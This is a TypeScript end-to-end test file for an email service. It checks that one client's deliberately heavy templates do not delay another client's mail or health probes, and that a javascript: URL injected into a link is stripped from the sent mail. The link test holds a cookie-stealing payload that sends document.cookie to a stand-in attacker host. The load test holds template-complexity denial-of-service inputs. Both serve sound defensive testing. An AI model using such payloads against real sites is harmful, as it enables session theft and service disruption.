import { call, sleep, waitFor } from '@postbus/testing';
import { probe, quantile, summary } from './latency';
import { createClientAndProject, createSendableEmail, startSystem, type DemoClient, type RunningSystem } from './system';

/** The review's saved template: two nested loops over data.a, 300 conditions in the inner one (8 KB). */
const NESTED = `{{#each data.a}}{{#each ../data.a}}${'{{#if ../../data.x}}{{/if}}'.repeat(300)}{{/each}}{{/each}}`;
const HUNDRED = { a: Array.from({ length: 100 }, (_, i) => i), x: 1 };
/** The review's preview: 45 KB, `{{a}}` 4,500 times in the HTML and in the text. */
const HOSTILE_DRAFT = { subject: 'x', html: '{{a}}'.repeat(4_500), text: '{{a}}'.repeat(4_500) };

/**
 * The bounds, chosen from runs on the 2-core CI host shared with other runs (see the notes): while a
 * hostile client works, /readyz of the gateway and of the mailer stays within 300 ms of its quiet p99
 * (measured +8 to +151 ms, the last in a clean-clone CI run, past the 150 ms first set: their
 * database answers the hostile client's deferrals too; the same harness measured 2.6–3.1 s before
 * templates left the event loop, which this bound still fails by far), and another client's mail
 * reaches the sink within twice its quiet p99 plus 4 s: measured 0.5–2.6 s (a clean-clone CI run
 * reached 2.6 s, past the 1.5 s margin first set); 18.7–20.5 s before, which this bound still fails.
 */
const READYZ_P99_OVER_QUIET_MS = 300;
const SEND_P99_FACTOR = 2;
const SEND_P99_MARGIN_MS = 4_000;

describe("a hostile client's templates do not slow anyone else's mail", () => {
  let system: RunningSystem;
  let quiet: DemoClient;
  let hostile: DemoClient;

  beforeAll(async () => {
    // The production budget of a first render, which e2e/system.ts widens for the other tests.
    system = await startSystem({ TEMPLATE_RUN_PATIENCE_MS: '300' });
    [quiet, hostile] = await Promise.all([createClientAndProject(system), createClientAndProject(system)]);
    await createSendableEmail(system, quiet, { domain: 'mail.quiet.example', key: 'receipt' });
    await createSendableEmail(system, hostile, { domain: 'mail.hostile.example', key: 'nested', html: NESTED });
  });

  afterAll(async () => {
    await system?.stop();
  });

  const send = async (client: DemoClient, key: string, email: string, data: unknown) => {
    const res = await call(system.gatewayUrl, 'POST', `/v1/projects/${client.projectId}/emails/${key}/send`, {
      auth: client.auth,
      json: { user: { email, name: 'Ann' }, data },
    });
    if (res.status !== 200) throw new Error(`send answered ${res.status}: ${res.text}`);
    return res.body.message_id as string;
  };

  /** The quiet client's mail, one every `everyMs`: the time from each trigger to its arrival at the sink. */
  async function quietSends(tag: string, count: number, everyMs: number): Promise<number[]> {
    const sent = await Promise.all(
      Array.from({ length: count }, async (_, i) => {
        await sleep(i * everyMs);
        const at = Date.now();
        const id = await send(quiet, 'receipt', `${tag}-${i}@quiet.example`, { code: String(i) });
        return { id, at };
      }),
    );
    return Promise.all(
      sent.map(async ({ id, at }) => {
        const arrived = await system.sink.client.waitForMessageId(`${id}@mail.quiet.example`, 60_000);
        return new Date(arrived.Created).getTime() - at;
      }),
    );
  }

  /** `work`, with both services' /readyz (dependencies checked) and /healthz (the event loop alone) asked throughout. */
  async function measured<T>(work: () => Promise<T>) {
    const probes = [
      probe(`${system.gatewayUrl}/readyz`),
      probe(`${system.mailerUrl}/readyz`),
      probe(`${system.gatewayUrl}/healthz`),
      probe(`${system.mailerUrl}/healthz`),
    ] as const;
    try {
      const result = await work();
      const [gatewayReadyz, mailerReadyz, gatewayHealthz, mailerHealthz] = await Promise.all(probes.map((p) => p.stop()));
      return {
        result,
        gatewayReadyz: gatewayReadyz!,
        mailerReadyz: mailerReadyz!,
        gatewayHealthz: gatewayHealthz!,
        mailerHealthz: mailerHealthz!,
      };
    } finally {
      await Promise.all(probes.map((p) => p.stop()));
    }
  }

  it('another client’s p99 trigger→sink latency and both /readyz stay near their quiet values while heavy previews and sends run', async () => {
    // Warm: the first sends of a process compile the template and open the relay's connections.
    await quietSends('warm', 5, 50);

    const calm = await measured(() => quietSends('calm', 40, 100));

    const hostileIds: string[] = [];
    let previews: Array<{ status: number; detail: string }> = [];
    const noisy = await measured(async () => {
      // 20 heavy sends at once, and previews of the hostile draft (each a fresh compile), while the quiet client sends.
      const sends = Array.from({ length: 20 }, (_, i) =>
        send(hostile, 'nested', `h${i}@hostile.example`, HUNDRED).then((id) => void hostileIds.push(id)),
      );
      const drafts = Promise.all(
        Array.from({ length: 3 }, (_, i) =>
          call(system.gatewayUrl, 'POST', `/v1/projects/${hostile.projectId}/template-preview`, {
            auth: hostile.auth,
            json: { ...HOSTILE_DRAFT, subject: `x${i}` },
          }).then((res) => ({ status: res.status, detail: res.body?.detail as string })),
        ),
      );
      const latencies = await quietSends('noisy', 40, 100);
      await Promise.all(sends);
      previews = await drafts;
      return latencies;
    });
    const report = [
      `quiet client trigger→sink, alone: ${summary(calm.result)}; beside the hostile client: ${summary(noisy.result)}`,
      `gateway /readyz, alone: ${summary(calm.gatewayReadyz)}; beside: ${summary(noisy.gatewayReadyz)}`,
      `mailer /readyz, alone: ${summary(calm.mailerReadyz)}; beside: ${summary(noisy.mailerReadyz)}`,
      `gateway /healthz, alone: ${summary(calm.gatewayHealthz)}; beside: ${summary(noisy.gatewayHealthz)}`,
      `mailer /healthz, alone: ${summary(calm.mailerHealthz)}; beside: ${summary(noisy.mailerHealthz)}`,
    ].join('\n');
    console.info(report);
    // A preview of the hostile draft is answered: rendered, over a limit (named), or 429 when the
    // client's earlier previews held its share of the threads for 10 s; whether its compile fits
    // the CPU second depends on the host (the review's 2.17 s were 1 s of compile and 1 s of render).
    for (const preview of previews) {
      expect([200, 422, 429]).toContain(preview.status);
      if (preview.status === 422)
        expect(preview.detail).toMatch(
          /^The template cannot be rendered: the template (takes more than 1000 ms|needs more than 128 MB) to (compile|compile and render)\.$/,
        );
    }

    expect(quantile(noisy.result, 0.99)).toBeLessThanOrEqual(SEND_P99_FACTOR * quantile(calm.result, 0.99) + SEND_P99_MARGIN_MS);
    expect(quantile(noisy.gatewayReadyz, 0.99)).toBeLessThanOrEqual(quantile(calm.gatewayReadyz, 0.99) + READYZ_P99_OVER_QUIET_MS);
    expect(quantile(noisy.mailerReadyz, 0.99)).toBeLessThanOrEqual(quantile(calm.mailerReadyz, 0.99) + READYZ_P99_OVER_QUIET_MS);

    // Every heavy send ends failed, naming the limit (some deferred first, while their client's queue was long).
    for (const id of hostileIds) {
      const message = await waitFor(
        async () => {
          const res = await call(system.gatewayUrl, 'GET', `/v1/projects/${hostile.projectId}/messages/${id}`, { auth: hostile.auth });
          return res.body?.status === 'failed' ? res.body : undefined;
        },
        { timeoutMs: 60_000, intervalMs: 250, what: `heavy message ${id} failed` },
      );
      expect(message.timeline.at(-1)).toMatchObject({
        event: 'failed',
        reason: 'render: the template evaluates more than 50000 helpers and sections in one render',
      });
    }
  });

  it('7e a javascript: URL in data reaches no href of the sent mail', async () => {
    const p = `/v1/projects/${quiet.projectId}`;
    const template = await call(system.gatewayUrl, 'POST', `${p}/templates`, {
      auth: quiet.auth,
      json: { name: 'Links', subject: 'Pay', html: '<p><a href="{{data.url}}">Pay now</a></p>' },
    });
    await call(system.gatewayUrl, 'POST', `${p}/emails`, {
      auth: quiet.auth,
      json: { key: 'pay', name: 'Pay', template_id: template.body.id },
    });
    const id = await send(quiet, 'pay', 'pay@quiet.example', { url: ' JaVaScRiPt:fetch(`//evil.example/?`+document.cookie)' });
    const arrived = await system.sink.client.waitForMessageId(`${id}@mail.quiet.example`, 30_000);
    const mail = await system.sink.client.get(arrived.ID);
    expect(mail.HTML).toContain('<a href="#">Pay now</a>');
    expect(mail.HTML.toLowerCase()).not.toContain('javascript');
  });
});
